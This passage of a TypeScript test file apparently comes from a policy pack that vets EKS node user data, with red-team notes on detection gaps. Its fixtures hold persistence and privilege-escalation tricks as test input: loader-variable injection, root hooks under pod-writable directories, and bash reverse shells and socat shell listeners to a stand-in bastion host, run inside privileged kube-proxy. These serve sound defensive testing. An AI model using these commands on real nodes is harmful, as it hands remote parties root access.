// Red-team round 71 on EKS NODE user data and programs on nodes (fresh eyes on round 71's manager-environment,
// agent, xargs and kernel-setting fixes).
// Probed: manager/loader environment neighbours (system.conf/user.conf ManagerEnvironment=, DefaultEnvironment
// continuation lines, kernel command line systemd.setenv via grubby and Bottlerocket settings.boot.init-parameters,
// pam_env envfile= in /etc/pam.d, /etc/profile.d exports and aliases, /etc/bashrc traps, /etc/sysconfig/sshd|crond
// environment files, unit drop-in Environment=, /etc/ld.so.conf.d, sed -i appends to /etc/environment); other ways
// root runs a program (udev RUN+=/IMPORT{program}/PROGRAM in /etc, /run and /usr/local/lib rules.d, logrotate
// compresscmd and include, systemd .path and .timer units, modprobe.d install, tmpfiles.d w/L+ lines, kernel.modprobe,
// sysctl -p of a file outside sysctl.d, binfmt.d interpreters); other supervisors (runit, s6, circus); launchers
// (flock -c, watch, script -c); container exec neighbours (crictl exec, ctr task exec, nerdctl -n k8s.io exec, docker
// exec of an unknown container); xargs/GNU parallel neighbours (-I{} sh -c {} with -a, --arg-file, -d, stdin
// redirect, parallel -a and ::::); Bottlerocket (kernel.sysctl kernel.modprobe, apiclient core_pattern, registry
// mirrors, PKI + proxy, init-parameters, another cluster's api-server).
// Threat model used (README "node user data", DECIDED round 69): the operator's own downloads are trusted; what
// must be refused is root reading what pods write (WRITABLE_DATA /data, /mnt, /srv ...), relays/shells for remote
// parties, and (round 71, fail closed) loader variables in the manager or session environment.
// Misses (15 insecure, 2 secure):
// - MANAGER-ENVIRONMENT (3: I1, M2, M2b): ManagerEnvironment= in system.conf(.d)/user.conf.d is not read; only
//   DefaultEnvironment= is. Fix: read both keys in MANAGER_CONFIG files.
// - CRI-EXEC (4: I25, C1, C2, C5): crictl exec / ctr task exec into kube-proxy (privileged, hostNetwork) of a reverse
//   shell or a socat shell listener is never read (only docker/podman/nerdctl exec). Fix: add them to containerExec.
// - XARGS-REPLACE (4: I30, X1, X3, X6): xargs -I{} sh -c '{}' over a list under /data named by -a, --arg-file or a
//   `<` redirect is accepted (cat | xargs, parallel -a and :::: are refused). Fix: the list file is root's input and
//   an -I run whose replace-string is a -c script runs the list's lines.
// - KERNEL-CMDLINE-SETENV (2: M3, M4): systemd.setenv=LD_PRELOAD=... via grubby --args or Bottlerocket
//   settings.boot.init-parameters. Fix: judge systemd.setenv= by LOADER_VARIABLES in kernelArgsOpenings/grubby.
// - PAM-ENVFILE (1: M5): a pam.d pam_env.so envfile= naming a file with LD_PRELOAD. Fix: judge envfile=/conffile=
//   files as SESSION_ENVIRONMENT.
// - PROFILE-LOADER-VARIABLE (1: M6): /etc/profile.d `export LD_PRELOAD=...` (the same root sessions as
//   /etc/environment). Fix: judge LOADER_VARIABLES exports in profile files.
// - secure PATH-SYSTEM-DIRS (2: S22, S23): /etc/environment and DefaultEnvironment= PATH of only root-owned system
//   directories refused. Fix: accept a PATH whose entries are all in DEFAULT_PATH.
// Held: every /data, /mnt, /srv reference in the new formats (udev, logrotate, modprobe.d, tmpfiles.d, binfmt.d,
// sysconfig, drop-ins, profile/bashrc, ld.so.conf.d, runit/s6/circus, flock/watch/script, kernel.modprobe, sysctl -p,
// Bottlerocket sysctl and apiclient) is refused by the root-read allowlist; DefaultEnvironment continuation lines,
// sed -i of /etc/environment, user.conf DefaultEnvironment, sysconfig/sshd -f, nerdctl -n k8s.io exec, docker exec
// of an unknown container, cat | xargs, xargs -n1 sh, parallel -a/::::. Secure held: udev attributes, logrotate
// without scripts, modprobe.d options/CIS install /bin/false, profile.d history/TMOUT and PATH append,
// ManagerEnvironment=TZ, sysconfig/crond, harmless sysctls, tmpfiles d, .path restarting chronyd, flock -n, crictl
// ps/images and exec of iptables-save, find | xargs -0 rm, Bottlerocket init-parameters log level; and, accepted by
// design (left alone): a NodeConfig / Bottlerocket settings.kubernetes naming another cluster on a managed node group
// with an EKS AMI type (EKS appends its own NodeConfig after the user's, nodeadm merges later-wins: eksctl "Node
// bootstrapping"; a self-managed node group would be a real hand-off, not probed), registry mirrors and PKI + proxy
// naming operator hosts, crictl exec of an operator-fetched script, sysconfig/sshd LD_PRELOAD of the operator's
// download.
import { nodePolicyConfig } from "./packRunner";
import {
    al2023Nodes,
    bottlerocket,
    describeNodeCases,
    devNodeCase,
    devNodeScript,
    EFFECTIVE,
    heredocFile,
    mime,
    NodeCase,
} from "./nodeBuilders";
import { Resources } from "./support";

const file = heredocFile;
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const RUN_FETCHED = "curl -fsSL https://ci.example.com/r.sh | sh";
const REV = "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1";
/** What a root read of a directory pods write is refused as. */
const DATA = /\/data|\/mnt|\/srv/;
/** What a relay or shell served beyond the node is refused as. */
const RELAY = /bastion|shell|relay|beyond|4444|container|exec|unknown|unread/i;
/** What a loader variable in root's environment is refused as. */
const LOADER = /loader|LD_PRELOAD|BASH_ENV|environment/;

/** A case on the basil stack's Bottlerocket node group (TOML settings `lines`). */
const brCase = (name: string, lines: string[], refused = /./, skip = false): NodeCase => ({
    name,
    stack: "basil",
    config: nodePolicyConfig,
    edit: (r: Resources) => bottlerocket(r, [...brKubernetes(), ...lines]),
    refused,
    policy: EFFECTIVE,
    skip,
});
/** The basil cluster's [settings.kubernetes] lines (cluster name and endpoint as given). */
const brKubernetes = (cluster = "basil-cluster", endpoint = "https://EXAMPLE.gr7.eu-west-1.eks.amazonaws.com") => [
    "[settings.kubernetes]",
    `cluster-name = "${cluster}"`,
    `api-server = "${endpoint}"`,
];

const insecure: NodeCase[] = [
    // ---- manager / loader environment neighbours ----
    // Was a MISS (fixed in round 72): MANAGER-ENVIRONMENT (ManagerEnvironment=). systemd-system.conf(5) ManagerEnvironment= ("Takes the same
    // arguments as DefaultEnvironment=, see above. Sets environment variables for the manager process itself. These
    // variables are inherited by processes spawned by user managers, but not the system manager"): PID 1 runs with
    // LD_PRELOAD/BASH_ENV in its own environment, so the generators it forks at every daemon-reload/reexec
    // (systemd.generator(7), root) load it; in user.conf it is every root user service's, exactly DefaultEnvironment=.
    // Round 71 refuses loader variables in DefaultEnvironment= (redteam70-gaps g71m cases) but userData.ts
    // (~19028, the MANAGER_CONFIG branch: `/^\s*DefaultEnvironment\s*=\s*(.*)$/gm`) reads only that key. Accepted (got []).
    // Fix: read ManagerEnvironment= with DefaultEnvironment= in MANAGER_CONFIG files (managerLoaderOpenings).
    devNodeCase(
        "I1 system.conf.d ManagerEnvironment=LD_PRELOAD (downloaded library), daemon-reexec",
        devNodeScript("dev-i1-71n-nodes", [
            SO,
            ...file("/etc/systemd/system.conf.d/50-env.conf", ["[Manager]", "ManagerEnvironment=LD_PRELOAD=/opt/x.so"]),
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    devNodeCase(
        "I1b system.conf.d ManagerEnvironment=LD_PRELOAD of a library under /data (pods write it)",
        devNodeScript("dev-i1b-71n-nodes", [
            ...file("/etc/systemd/system.conf.d/50-env.conf", [
                "[Manager]",
                "ManagerEnvironment=LD_PRELOAD=/data/x.so",
            ]),
            "systemctl daemon-reexec",
        ]),
        DATA,
    ),
    devNodeCase(
        "I2 user.conf.d DefaultEnvironment=BASH_ENV (root's user manager)",
        devNodeScript("dev-i2-71n-nodes", [
            "curl -fsSL -o /opt/env.sh https://downloads.example.com/env.sh",
            ...file("/etc/systemd/user.conf.d/50-env.conf", ["[Manager]", "DefaultEnvironment=BASH_ENV=/opt/env.sh"]),
        ]),
        LOADER,
    ),
    devNodeCase(
        "I3 /etc/sysconfig/sshd LD_PRELOAD of a library under /data (sshd.service EnvironmentFile=-/etc/sysconfig/sshd)",
        devNodeScript("dev-i3-71n-nodes", [
            ...file("/etc/sysconfig/sshd", ["LD_PRELOAD=/data/x.so"]),
            "systemctl restart sshd",
        ]),
        DATA,
    ),
    devNodeCase(
        "I4 /etc/sysconfig/sshd OPTIONS=-f another sshd_config (control)",
        devNodeScript("dev-i4-71n-nodes", [
            ...file("/opt/ssh/sshd_config", ["PermitRootLogin yes", "AuthorizedKeysFile /opt/ssh/keys"]),
            "curl -fsSL -o /opt/ssh/keys https://downloads.example.com/keys",
            ...file("/etc/sysconfig/sshd", ['OPTIONS="-f /opt/ssh/sshd_config"']),
            "systemctl restart sshd",
        ]),
        /sshd|PermitRootLogin|ssh/i,
    ),
    devNodeCase(
        "I5 /etc/sysconfig/crond BASH_ENV of a script under /data (crond.service EnvironmentFile=-/etc/sysconfig/crond)",
        devNodeScript("dev-i5-71n-nodes", [
            ...file("/etc/sysconfig/crond", ["CRONDARGS=", "BASH_ENV=/data/env.sh"]),
            "systemctl restart crond",
        ]),
        DATA,
    ),
    devNodeCase(
        "I6 sshd.service.d drop-in Environment=LD_PRELOAD of a library under /data",
        devNodeScript("dev-i6-71n-nodes", [
            ...file("/etc/systemd/system/sshd.service.d/50-env.conf", [
                "[Service]",
                "Environment=LD_PRELOAD=/data/x.so",
            ]),
            "systemctl daemon-reload",
            "systemctl restart sshd",
        ]),
        DATA,
    ),
    devNodeCase(
        "I7 /etc/ld.so.conf.d naming /data/lib (the loader's search path), ldconfig",
        devNodeScript("dev-i7-71n-nodes", ["echo /data/lib > /etc/ld.so.conf.d/data.conf", "ldconfig"]),
        DATA,
    ),
    devNodeCase(
        "I8 /etc/profile.d exports LD_PRELOAD of a library under /data",
        devNodeScript("dev-i8-71n-nodes", [...file("/etc/profile.d/zz-ops.sh", ["export LD_PRELOAD=/data/x.so"])]),
        DATA,
    ),
    devNodeCase(
        "I9 /etc/profile.d PROMPT_COMMAND sourcing a file under /data",
        devNodeScript("dev-i9-71n-nodes", [
            ...file("/etc/profile.d/zz-ops.sh", ["export PROMPT_COMMAND='. /data/prompt.sh'"]),
        ]),
        DATA,
    ),
    devNodeCase(
        "I10 /etc/profile.d alias sudo running a hook under /data first",
        devNodeScript("dev-i10-71n-nodes", [...file("/etc/profile.d/zz-ops.sh", ["alias sudo='/data/hook; sudo'"])]),
        DATA,
    ),
    devNodeCase(
        "I11 /etc/bashrc trap DEBUG running a hook under /data",
        devNodeScript("dev-i11-71n-nodes", ["echo \"trap '/data/hook' DEBUG\" >> /etc/bashrc"]),
        DATA,
    ),
    // ---- other ways root runs a program ----
    devNodeCase(
        "I12 udev rule /etc/udev/rules.d RUN+= a hook under /data",
        devNodeScript("dev-i12-71n-nodes", [
            ...file("/etc/udev/rules.d/99-ops.rules", ['ACTION=="add", SUBSYSTEM=="net", RUN+="/data/hooks/net-up"']),
            "udevadm control --reload",
            "udevadm trigger --subsystem-match=net --action=add",
        ]),
        DATA,
    ),
    devNodeCase(
        "I13 udev rule in /run/udev/rules.d RUN+= a hook under /mnt",
        devNodeScript("dev-i13-71n-nodes", [
            ...file("/run/udev/rules.d/99-ops.rules", ['ACTION=="add", SUBSYSTEM=="block", RUN+="/mnt/hooks/disk"']),
            "udevadm control --reload",
        ]),
        DATA,
    ),
    devNodeCase(
        "I14 udev rule in /usr/local/lib/udev/rules.d IMPORT{program}= a program under /srv",
        devNodeScript("dev-i14-71n-nodes", [
            ...file("/usr/local/lib/udev/rules.d/99-ops.rules", [
                'SUBSYSTEM=="block", IMPORT{program}="/srv/hooks/id %k"',
            ]),
            "udevadm control --reload",
        ]),
        DATA,
    ),
    devNodeCase(
        "I14b udev rule RUN+= via a here-doc with the path split across udev's own string concatenation (%k env)",
        devNodeScript("dev-i14b-71n-nodes", [
            ...file("/etc/udev/rules.d/99-ops.rules", [
                'ACTION=="add", SUBSYSTEM=="net", ENV{HOOKDIR}="/data/hooks", RUN+="/bin/sh -c \'exec $env{HOOKDIR}/net-up\'"',
            ]),
        ]),
        DATA,
    ),
    devNodeCase(
        "I15 logrotate compresscmd a program under /data",
        devNodeScript("dev-i15-71n-nodes", [
            ...file("/etc/logrotate.d/ops", [
                "/var/log/ops/*.log {",
                "    daily",
                "    compress",
                "    compresscmd /data/bin/zip",
                "}",
            ]),
        ]),
        DATA,
    ),
    devNodeCase(
        "I16 logrotate include of /data/logrotate.d (postrotate scripts pods write)",
        devNodeScript("dev-i16-71n-nodes", ["echo 'include /data/logrotate.d' >> /etc/logrotate.conf"]),
        DATA,
    ),
    devNodeCase(
        "I17 systemd .path unit: PathChanged= under /data triggers a unit (control: harmless unit)",
        devNodeScript("dev-i17-71n-nodes", [
            ...file("/etc/systemd/system/ops.service", ["[Service]", "Type=oneshot", "ExecStart=/data/hooks/run"]),
            ...file("/etc/systemd/system/ops.path", [
                "[Path]",
                "PathChanged=/data/trigger",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now ops.path",
        ]),
        DATA,
    ),
    devNodeCase(
        "I18 modprobe.d install line running a program under /data, modprobe",
        devNodeScript("dev-i18-71n-nodes", [
            "echo 'install dummy /data/hooks/mod' > /etc/modprobe.d/ops.conf",
            "modprobe dummy",
        ]),
        DATA,
    ),
    devNodeCase(
        "I19 tmpfiles.d w of kernel.core_pattern piping to a program under /data",
        devNodeScript("dev-i19-71n-nodes", [
            ...file("/etc/tmpfiles.d/ops.conf", ["w /proc/sys/kernel/core_pattern - - - - |/data/hooks/core %p"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
        DATA,
    ),
    devNodeCase(
        "I20 tmpfiles.d L+ symlink of /etc/cron.d/ops to a file under /data",
        devNodeScript("dev-i20-71n-nodes", [
            ...file("/etc/tmpfiles.d/ops.conf", ["L+ /etc/cron.d/ops - - - - /data/cron"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
        DATA,
    ),
    devNodeCase(
        "I21 sysctl -w kernel.modprobe at a program under /data (round 71 neighbour, expected held)",
        devNodeScript("dev-i21-71n-nodes", ["sysctl -w kernel.modprobe=/data/hooks/modprobe"]),
        DATA,
    ),
    devNodeCase(
        "I22 sysctl -p of a file outside sysctl.d piping core_pattern to a program under /data",
        devNodeScript("dev-i22-71n-nodes", [
            ...file("/opt/ops/sysctl.conf", ["kernel.core_pattern = |/data/hooks/core %p"]),
            "sysctl -p /opt/ops/sysctl.conf",
        ]),
        DATA,
    ),
    devNodeCase(
        "I23 binfmt.d registering an interpreter under /data for .sh files",
        devNodeScript("dev-i23-71n-nodes", [
            ...file("/etc/binfmt.d/ops.conf", [":opssh:E::sh::/data/bin/interp:"]),
            "systemctl restart systemd-binfmt",
        ]),
        DATA,
    ),
    devNodeCase(
        "I24 systemd timer + service running a hook under /data (control)",
        devNodeScript("dev-i24-71n-nodes", [
            ...file("/etc/systemd/system/ops.service", ["[Service]", "Type=oneshot", "ExecStart=/data/hooks/run"]),
            ...file("/etc/systemd/system/ops.timer", [
                "[Timer]",
                "OnBootSec=5min",
                "[Install]",
                "WantedBy=timers.target",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now ops.timer",
        ]),
        DATA,
    ),
    // ---- launchers / container exec neighbours ----
    // Was a MISS (fixed in round 72): CRI-EXEC. crictl(1) `crictl exec [OPTIONS] CONTAINER-ID COMMAND [ARG...]` ("Run a command in a running
    // container") and ctr `task exec --exec-id ID CONTAINER CMD` run the command in that container's namespaces with its
    // powers. kube-proxy on EKS is privileged with hostNetwork (the add-on's DaemonSet), so the reverse shell gives
    // bastion.example.com a root shell with the node's network (instance metadata: the node role) and devices. Round 71
    // judges `docker|podman|nerdctl exec` lines as root's (rootReads.ts ~6537 engine branch /^(ctr|nerdctl|docker|podman)$/,
    // containers.ts containerExec: `exec`/`container exec` only); crictl is no engine there and ctr's `task exec` no exec
    // path, so the line is never read. Accepted (got []). Fix: crictl exec/attach and ctr task(s)|t exec in containerExec,
    // judged like an exec into a container the script did not start (fail closed: its -c line as root's rootShellLine,
    // the command as a root command with the node's network).
    devNodeCase(
        "I25 crictl exec into kube-proxy (privileged, host network) of a bash reverse shell",
        devNodeScript("dev-i25-71n-nodes", [
            `crictl exec "$(crictl ps -q --name kube-proxy)" bash -c 'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "I27 flock -c running a hook under /data",
        devNodeScript("dev-i27-71n-nodes", ["flock /run/ops.lock -c '/data/hooks/run'"]),
        DATA,
    ),
    devNodeCase(
        "I28 watch running a hook under /data every minute",
        devNodeScript("dev-i28-71n-nodes", ["nohup watch -n 60 /data/hooks/run >/dev/null 2>&1 &"]),
        DATA,
    ),
    devNodeCase(
        "I29 script -c running a hook under /data",
        devNodeScript("dev-i29-71n-nodes", ["script -q -c /data/hooks/run /dev/null"]),
        DATA,
    ),
    // Was a MISS (fixed in round 72): XARGS-REPLACE. POSIX xargs -I replstr ("Insert mode: utility is executed for each line from standard input,
    // taking the entire line as a single argument, inserting it in arguments for each occurrence of replstr"; GNU
    // `-a file`/`--arg-file=file` "Read items from file instead of standard input"): `sh -c '{}'` runs each line of the
    // list as a root shell script, and the list lies under /data, which the pack lets pods write (podSpec.ts
    // WRITABLE_DATA). Round 71's RootReads.xargsScriptRuns reads the runs' words (items as positional parameters) and
    // `cat /data/cmds | xargs` is refused (X2), but the list named by -a/--arg-file or a `<` redirection into an -I run is
    // not read as root's input. Accepted (got []). Fix: an xargs/parallel list file (-a, --arg-file, `<` redirect, `::::`)
    // is a file root reads (the keepers' allowlist), and an -I/-i/--replace run whose replace-string is a shell's -c
    // script or a script operand runs the list's lines as code.
    devNodeCase(
        "I30 xargs -a a command list under /data -I{} sh -c {}",
        devNodeScript("dev-i30-71n-nodes", ["xargs -a /data/cmds -I{} sh -c '{}'"]),
        DATA,
    ),
    devNodeCase(
        "I31 parallel -a a command list under /data",
        devNodeScript("dev-i31-71n-nodes", ["parallel -j4 -a /data/cmds"]),
        DATA,
    ),
    devNodeCase(
        "I32 runit: /etc/sv/ops/run execs a hook under /data, linked into /etc/service",
        devNodeScript("dev-i32-71n-nodes", [
            ...file("/etc/sv/ops/run", ["#!/bin/sh", "exec /data/hooks/run"]),
            "chmod 755 /etc/sv/ops/run",
            "ln -s /etc/sv/ops /etc/service/ops",
        ]),
        DATA,
    ),
    devNodeCase(
        "I33 s6: servicedir run file execs a hook under /data, s6-svscan started on it",
        devNodeScript("dev-i33-71n-nodes", [
            ...file("/opt/s6/ops/run", ["#!/bin/sh", "exec /data/hooks/run"]),
            "chmod 755 /opt/s6/ops/run",
            "nohup s6-svscan /opt/s6 >/dev/null 2>&1 &",
        ]),
        DATA,
    ),
    devNodeCase(
        "I34 circus ini watcher cmd under /data, circusd started",
        devNodeScript("dev-i34-71n-nodes", [
            ...file("/etc/circus/circus.ini", ["[watcher:ops]", "cmd = /data/hooks/run", "numprocesses = 1"]),
            "nohup circusd --daemon /etc/circus/circus.ini",
        ]),
        DATA,
    ),
    // ---- round 71 neighbours of the misses found above ----
    // Was a MISS (fixed in round 72): XARGS-REPLACE (list on standard input by `< /data/cmds`): same gap as I30. Accepted (got []).
    devNodeCase(
        "X1 xargs -I{} sh -c {} reading its list on standard input from /data",
        devNodeScript("dev-x1-71n-nodes", ["xargs -I{} sh -c '{}' < /data/cmds"]),
        DATA,
    ),
    devNodeCase(
        "X2 cat /data/cmds | xargs -I CMD sh -c CMD",
        devNodeScript("dev-x2-71n-nodes", ["cat /data/cmds | xargs -I CMD sh -c CMD"]),
        DATA,
    ),
    // Was a MISS (fixed in round 72): XARGS-REPLACE (--arg-file=): same gap as I30. Accepted (got []).
    devNodeCase(
        "X3 xargs --arg-file=/data/cmds -I{} bash -c {}",
        devNodeScript("dev-x3-71n-nodes", ["xargs --arg-file=/data/cmds -I{} bash -c '{}'"]),
        DATA,
    ),
    devNodeCase(
        "X4 xargs -a /data/list -n1 sh (each item a script path pods choose)",
        devNodeScript("dev-x4-71n-nodes", ["xargs -a /data/list -n1 sh"]),
        DATA,
    ),
    devNodeCase(
        "X5 parallel :::: /data/cmds (arguments from a file)",
        devNodeScript("dev-x5-71n-nodes", ["parallel :::: /data/cmds"]),
        DATA,
    ),
    // Was a MISS (fixed in round 72): XARGS-REPLACE (-d '\n' -a): same gap as I30. Accepted (got []).
    devNodeCase(
        "X6 xargs -d newline -a /data/cmds -I{} bash -c {}",
        devNodeScript("dev-x6-71n-nodes", ["xargs -d '\\n' -a /data/cmds -I{} bash -c '{}'"]),
        DATA,
    ),
    // Was a MISS (fixed in round 72): CRI-EXEC (crictl exec -i -t before the id): same gap as I25. Accepted (got []).
    devNodeCase(
        "C1 crictl exec -it into kube-proxy of a bash reverse shell (flags before the id)",
        devNodeScript("dev-c1-71n-nodes", [`crictl exec -i -t "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 72): CRI-EXEC (ctr -n k8s.io task exec --exec-id): same gap as I25. Accepted (got []).
    devNodeCase(
        "C2 ctr -n k8s.io task exec into kube-proxy of a bash reverse shell",
        devNodeScript("dev-c2-71n-nodes", [
            `ctr -n k8s.io task exec --exec-id ops "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "C3 nerdctl -n k8s.io exec into kube-proxy of a bash reverse shell",
        devNodeScript("dev-c3-71n-nodes", [
            `nerdctl -n k8s.io exec "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "C4 docker exec into a container the script did not start, of a bash reverse shell",
        devNodeScript("dev-c4-71n-nodes", [`docker exec tools bash -c '${REV}'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 72): CRI-EXEC (crictl exec of socat TCP-LISTEN ... EXEC:/bin/sh, socat(1) EXEC "Forks a sub process"
    // with the connection as its stdio): a shell on every address of the node's network (kube-proxy is hostNetwork) for
    // whoever connects. Same gap as I25. Accepted (got []).
    devNodeCase(
        "C5 crictl exec into kube-proxy of socat serving a shell on every address",
        devNodeScript("dev-c5-71n-nodes", [
            `crictl exec "$(crictl ps -q --name kube-proxy)" socat TCP-LISTEN:4444,fork,reuseaddr EXEC:/bin/sh`,
        ]),
        RELAY,
    ),
    // DECIDED (round 72): was secure S17 ("crictl exec into kube-proxy of an operator-fetched script, downloads are
    // trusted"); accepted only because crictl exec was never read. The user data's own `curl -fsSL URL | sh` is refused
    // by the pack (a program made at boot: RootReads.unreadableRun; README DECIDED round 69 trusts downloaded files, not
    // a root shell running fetched text unread), and so is the same -c line in a privileged `docker run` (containerShell);
    // in kube-proxy (privileged, hostNetwork: root of the node) it is the same root shell.
    devNodeCase(
        "S17 crictl exec into kube-proxy of a fetched script piped to sh (refused as the user data's own curl | sh is)",
        devNodeScript("dev-s17-71n-nodes", [`crictl exec "$(crictl ps -q --name kube-proxy)" sh -c '${RUN_FETCHED}'`]),
        /made at boot/,
    ),
    // Round 72 neighbours (CRI-EXEC, XARGS-REPLACE), pinned from the refused side.
    devNodeCase(
        "N1 crictl with a global -r endpoint, exec --name filter (no id) of socat serving a shell",
        devNodeScript("dev-n1-72n-nodes", [
            "crictl -r unix:///run/containerd/containerd.sock exec --name kube-proxy socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
        ]),
        RELAY,
    ),
    devNodeCase(
        "N2 crictl exec with an option the pack does not know (container and command cannot be told apart)",
        devNodeScript("dev-n2-72n-nodes", [`crictl exec --frobnicate x kube-proxy iptables-save`]),
        /made at boot|option/,
    ),
    devNodeCase(
        "N3 crictl exec of a -c line made at run time",
        devNodeScript("dev-n3-72n-nodes", [`crictl exec kp sh -c "$(curl -fsSL https://x.example.com/a)"`]),
        /made at boot/,
    ),
    devNodeCase(
        "N4 ctr -n k8s.io t exec (short task alias) into a container the script did not start",
        devNodeScript("dev-n4-72n-nodes", ["ctr -n k8s.io t exec --exec-id x kp iptables-save"]),
        RELAY,
    ),
    devNodeCase(
        "N5 xargs -I{} sh -c 'echo {}' of items the pack cannot know (ls output): each item is shell code",
        devNodeScript("dev-n5-72n-nodes", ["ls /opt/ops | xargs -I{} sh -c 'echo {}'"]),
        /made at boot/,
    ),
    devNodeCase(
        "N6 xargs -a a list under /data run on echo (the list is still a file root reads)",
        devNodeScript("dev-n6-72n-nodes", ["xargs -a /data/list -n1 echo"]),
        DATA,
    ),
    devNodeCase(
        "N7 xargs -a an image file (content unknown) -I{} sh -c {}",
        devNodeScript("dev-n7-72n-nodes", ["xargs -a /opt/ops/cmds -I{} sh -c '{}'"]),
        /made at boot/,
    ),
    devNodeCase(
        "M1 system.conf.d DefaultEnvironment continued on a second line (backslash) with LD_PRELOAD",
        devNodeScript("dev-m1-71n-nodes", [
            SO,
            ...file("/etc/systemd/system.conf.d/50-env.conf", [
                "[Manager]",
                "DefaultEnvironment=LANG=C.UTF-8 \\\\",
                "    LD_PRELOAD=/opt/x.so",
            ]),
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 72): MANAGER-ENVIRONMENT (ManagerEnvironment= echo-appended to system.conf): same gap as I1. Accepted (got []).
    devNodeCase(
        "M2 system.conf ManagerEnvironment=BASH_ENV appended with echo",
        devNodeScript("dev-m2-71n-nodes", [
            "curl -fsSL -o /opt/env.sh https://downloads.example.com/env.sh",
            "echo 'ManagerEnvironment=BASH_ENV=/opt/env.sh' >> /etc/systemd/system.conf",
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 72): MANAGER-ENVIRONMENT (user.conf.d: the doc's own "inherited by processes spawned by user managers", root's
    // user@0 included): same gap as I1. Accepted (got []).
    devNodeCase(
        "M2b user.conf.d ManagerEnvironment=LD_PRELOAD (inherited by every process root's user manager spawns)",
        devNodeScript("dev-m2b-71n-nodes", [
            SO,
            ...file("/etc/systemd/user.conf.d/50-env.conf", ["[Manager]", "ManagerEnvironment=LD_PRELOAD=/opt/x.so"]),
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 72): KERNEL-CMDLINE-SETENV. systemd(1) kernel command line "systemd.setenv=: Takes a string argument in the
    // form VARIABLE=VALUE. May be used to set default environment variables to add to forked child processes" (the
    // DefaultEnvironment= of the next boot); grubby(8) --update-kernel=ALL --args adds it to every boot entry. Every unit's
    // root process loads /opt/x.so, which round 71 refuses for DefaultEnvironment=. grubby is read as harmless and
    // userData.ts kernelArgsOpenings does not judge systemd.setenv. Accepted (got []). Fix: systemd.setenv= in kernel or
    // init arguments (grubby --args, /etc/default/grub GRUB_CMDLINE_LINUX, Bottlerocket settings.boot) judged by
    // LOADER_VARIABLES like DefaultEnvironment= (managerLoaderOpenings).
    devNodeCase(
        "M3 grubby kernel command line systemd.setenv=LD_PRELOAD (the manager's default environment at next boot)",
        devNodeScript("dev-m3-71n-nodes", [
            SO,
            'grubby --update-kernel=ALL --args="systemd.setenv=LD_PRELOAD=/opt/x.so"',
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 72): KERNEL-CMDLINE-SETENV (Bottlerocket settings.boot.init-parameters, bottlerocket.dev settings
    // reference "boot": init-parameters are passed to init, systemd, which reads systemd.setenv=): same gap as M3;
    // bottlerocketSettingsOpenings hands bootArgs to kernelArgsOpenings, which does not judge systemd.setenv. Accepted (got []).
    brCase(
        "M4 Bottlerocket settings.boot.init-parameters systemd.setenv LD_PRELOAD",
        ["[settings.boot.init-parameters]", '"systemd.setenv" = ["LD_PRELOAD=/usr/lib/libops.so"]'],
        LOADER,
    ),
    // Was a MISS (fixed in round 72): PAM-ENVFILE. pam_env(8) "envfile=/path/to/file: Indicate an alternative environment file to override
    // the default. ... readenv=0|1: Turns on or off the reading of the file specified in envfile": the appended sshd
    // session line gives every SSH session (root's included) LD_PRELOAD=/opt/x.so, which round 71 refuses in
    // /etc/environment (userData.ts SESSION_ENVIRONMENT). The pam.d line is read only as a shell line. Accepted (got []).
    // Fix: a /etc/pam.d line naming pam_env.so judges its envfile=/conffile= files as SESSION_ENVIRONMENT (unknown
    // content: refused).
    devNodeCase(
        "M5 /etc/pam.d/sshd pam_env envfile= naming a file with LD_PRELOAD",
        devNodeScript("dev-m5-71n-nodes", [
            SO,
            ...file("/opt/ops/env", ["LD_PRELOAD=/opt/x.so"]),
            "echo 'session required pam_env.so readenv=1 envfile=/opt/ops/env' >> /etc/pam.d/sshd",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 72): PROFILE-LOADER-VARIABLE. bash(1) INVOCATION (a login shell "first reads and executes commands from
    // the file /etc/profile", which sources /etc/profile.d/*.sh on AL2023): `export LD_PRELOAD=/opt/x.so` there is the
    // same root-session environment as an /etc/environment line, which round 71 refuses (SESSION_ENVIRONMENT with
    // LOADER_VARIABLES); profile.d exports are not judged (PATH appended there is accepted too, S24). Accepted (got []).
    // Fix: exports/assignments of LOADER_VARIABLES in /etc/profile, /etc/profile.d/*, /etc/bashrc judged like
    // SESSION_ENVIRONMENT lines (with the PATH rule of S22/S23).
    devNodeCase(
        "M6 /etc/profile.d exports LD_PRELOAD of a downloaded library (root's login shells, as /etc/environment)",
        devNodeScript("dev-m6-71n-nodes", [SO, ...file("/etc/profile.d/zz-ops.sh", ["export LD_PRELOAD=/opt/x.so"])]),
        LOADER,
    ),
    // Round 72 neighbours (insecure) of the environment places (userData.ts ENVIRONMENT_FILES, kernelArgsOpenings,
    // pamEnvironmentOpenings): each judged by the same loader-variable rule, PATH only of root-owned system directories.
    devNodeCase(
        "M2c user.conf ManagerEnvironment=PATH with a directory the pack does not know root-owned first",
        devNodeScript("dev-m2c-72n-nodes", [
            ...file("/etc/systemd/user.conf.d/50-path.conf", [
                "[Manager]",
                "ManagerEnvironment=PATH=/opt/ops/bin:/usr/local/bin:/usr/bin",
            ]),
        ]),
        LOADER,
    ),
    devNodeCase(
        "M3b /etc/default/grub GRUB_CMDLINE_LINUX systemd.setenv=BASH_ENV, grub2-mkconfig",
        devNodeScript("dev-m3b-72n-nodes", [
